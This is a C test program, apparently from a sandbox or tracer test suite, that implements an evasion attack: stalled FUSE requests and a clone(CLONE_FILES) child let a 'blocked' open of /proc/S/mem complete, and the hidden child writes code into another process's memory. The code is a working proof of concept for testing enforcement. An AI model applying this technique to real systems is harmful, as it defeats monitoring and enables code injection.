/*
 * Attack: a blocked open is judged `blocked` and the processes of its hold
 * are killed, but the open still completes in the kernel, and a process
 * sharing the descriptor table that the hold never knew of survives to use
 * its descriptor.
 *
 * A server process S (forked first) mounts a FUSE filesystem in a mount
 * namespace of its own: a directory "slow", whose LOOKUP it answers after
 * 3 s, and a file "page". The program (in the tracer's namespace) reaches
 * it through /proc/S/root, so the mount is not among those it sees. It
 * maps "page" without reading it. A thread calls
 * clone(CLONE_FILES | CLONE_PARENT_SETTID) with the parent-tid pointer in
 * that page: the new process N exists (sharing the descriptor table) but
 * sleeps unwoken until the thread's fault, which S answers only after the
 * slow LOOKUP, ends. Main then opens
 * /proc/S/root<dir>/slow/../../../proc/S/mem O_RDWR (only the LOOKUP of
 * "slow" goes to S; ".." needs no request). N, once it runs, waits for the
 * descriptor number the open gets to be a mem file and pwrites TW_CODE over
 * S's tw_patch_target through it; a thread of S calls tw_patch_target when
 * its first byte changes (RAN orphan_call).
 * With "exit": main exits instead of opening, and a helper process looks
 * "slow" up after 1 s, so N wakes after the program is gone and reaped
 * (its creator's clone event never comes); N prints
 * `STEP orphan_runs getpid` and exits.
 * Needs root (mount namespaces, FUSE); otherwise `STEP fuse_mount ...`.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "tw_fuse.h"

#define DIR_NODE 2
#define FILE_NODE 3

TW_DEFINE_PATCH_TARGET;

static int predicted_fd;
static const char *parent_tid_page;
static pid_t orphan = -1;
static int exit_mode;
static int seen_fd; /* S's end of the pipe `seen` */

static void fill_attr(struct fuse_attr *attr, uint64_t node)
{
	memset(attr, 0, sizeof(*attr));
	attr->ino = node;
	attr->blksize = 4096;
	attr->mode = node == FILE_NODE ? S_IFREG | 0644 : S_IFDIR | 0755;
	attr->nlink = node == FILE_NODE ? 1 : 2;
	attr->size = node == FILE_NODE ? 4096 : 0;
}

static void reply_entry(uint64_t unique, uint64_t node)
{
	struct fuse_entry_out entry = {0};

	entry.nodeid = node;
	entry.entry_valid = entry.attr_valid = 3600;
	fill_attr(&entry.attr, node);
	tw_fuse_reply(unique, 0, &entry, sizeof(entry));
}

/* S's thread: run tw_patch_target once someone wrote over it (within 8 s). */
static void *watch(void *unused)
{
	(void)unused;
	for (int i = 0; i < 800; i++) {
		if (*((volatile const unsigned char *)(uintptr_t)tw_patch_target + 1) == TW_CODE[1]) {
			tw_run("orphan_call", (const void *)tw_patch_target);
			break;
		}
		usleep(10000);
	}
	_exit(0); /* the server too: nobody may be left to end it */
}

/* S's part of the server: LOOKUP of "slow" answered after 3 s, then the
 * kept READ of "page" (reported as one byte on seen_fd when kept). */
static int handle(struct fuse_in_header *in, void *arg)
{
	static char page[4096];
	static uint64_t kept;
	const char *name = arg;

	switch (in->opcode) {
	case FUSE_LOOKUP:
		if (in->nodeid == FUSE_ROOT_ID && strcmp(name, "page") == 0) {
			reply_entry(in->unique, FILE_NODE);
		} else if (in->nodeid == FUSE_ROOT_ID && strcmp(name, "slow") == 0) {
			sleep(3);
			reply_entry(in->unique, DIR_NODE);
			usleep(500000);
			if (kept)
				tw_fuse_reply(kept, 0, page, sizeof(page));
			kept = 0;
		} else {
			tw_fuse_reply(in->unique, -ENOENT, NULL, 0);
		}
		break;
	case FUSE_GETATTR:
		tw_fuse_reply_attr(in, fill_attr, 3600);
		break;
	case FUSE_OPEN:
		tw_fuse_reply_open(in->unique, 0, 0);
		break;
	case FUSE_READ:
		if (!kept) {
			kept = in->unique;
			if (write(seen_fd, "r", 1) != 1)
				_exit(5);
		} else {
			tw_fuse_reply(in->unique, 0, page, sizeof(page));
		}
		break;
	case FUSE_FLUSH:
	case FUSE_RELEASE:
		tw_fuse_reply(in->unique, 0, NULL, 0);
		break;
	default:
		return 0;
	}
	return 1;
}

/* N: wait for the open's descriptor to be a mem file, write through it. */
static void use_descriptor(void)
{
	char path[64], link[64];

	if (exit_mode) {
		tw_emit("STEP orphan_runs getpid rc=%d errno=0", (int)getpid());
		_exit(0);
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", predicted_fd);
	for (int i = 0; i < 1000; i++) {
		ssize_t n = readlink(path, link, sizeof(link) - 1);

		if (n > 4 && memcmp(link + n - 4, "/mem", 4) == 0) {
			n = pwrite(predicted_fd, TW_CODE, sizeof(TW_CODE), (off_t)(uintptr_t)tw_patch_target);
			_exit(n == (ssize_t)sizeof(TW_CODE) ? 0 : 1);
		}
		usleep(10000);
	}
	_exit(1);
}

/* P's thread: the clone that makes N, its parent-tid store held in the page. */
static void *cloner(void *unused)
{
	long rc;

	(void)unused;
	rc = syscall(SYS_clone, CLONE_FILES | CLONE_PARENT_SETTID | SIGCHLD, 0, parent_tid_page, 0, 0);
	if (rc == 0)
		use_descriptor();
	orphan = (pid_t)rc;
	return NULL;
}

int main(int argc, char **argv)
{
	char dir[] = "/tmp/tw_orphan_XXXXXX";
	char path[512], byte;
	int seen[2], ready[2], fd;
	pthread_t thread;
	pid_t server;

	tw_init();
	exit_mode = argc > 1 && strcmp(argv[1], "exit") == 0;
	if (!mkdtemp(dir) || pipe2(seen, O_CLOEXEC) != 0 || pipe2(ready, O_CLOEXEC) != 0)
		return 1;
	server = fork();
	if (server == 0) {
		pthread_t watcher;

		close(ready[0]);
		if (tw_fuse_mount(dir) != 0)
			_exit(1);
		pthread_create(&watcher, NULL, watch, NULL);
		if (write(ready[1], "m", 1) != 1)
			_exit(5);
		seen_fd = seen[1];
		tw_fuse_serve(handle);
		pthread_join(watcher, NULL);
	}
	close(ready[1]);
	close(seen[1]);
	if (read(ready[0], &byte, 1) != 1) {
		waitpid(server, NULL, 0);
		rmdir(dir);
		return tw_done();
	}
	snprintf(path, sizeof(path), "/proc/%d/root%s/page", (int)server, dir);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	parent_tid_page = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
	if (parent_tid_page == MAP_FAILED)
		return 1;
	close(fd);
	predicted_fd = dup(0);
	close(predicted_fd); /* the lowest free descriptor: the open's */
	pthread_create(&thread, NULL, cloner, NULL);
	if (read(seen[0], &byte, 1) != 1) /* the cloner sleeps in its fault */
		return 1;
	usleep(20000);
	if (exit_mode) {
		/* A helper looks "slow" up in 1 s; the new process wakes once the
		 * program is gone (its creator's clone event never comes). */
		if (fork() == 0) {
			struct stat st;

			sleep(1);
			snprintf(path, sizeof(path), "/proc/%d/root%s/slow", (int)server, dir);
			tw_step("helper_stat", "stat", stat(path, &st), errno);
			_exit(0);
		}
		tw_done();
		syscall(SYS_exit_group, 0);
	}
	snprintf(path, sizeof(path), "/proc/%d/root%s/slow/../../../proc/%d/mem", (int)server, dir, (int)server);
	fd = open(path, O_RDWR);
	tw_step("blocked_open", "open", fd, errno);
	pthread_join(thread, NULL);
	if (orphan > 0)
		tw_wait_child("orphan", orphan);
	if (fd >= 0)
		close(fd);
	usleep(100000);
	kill(server, SIGKILL);
	waitpid(server, NULL, 0);
	rmdir(dir);
	return tw_done();
}
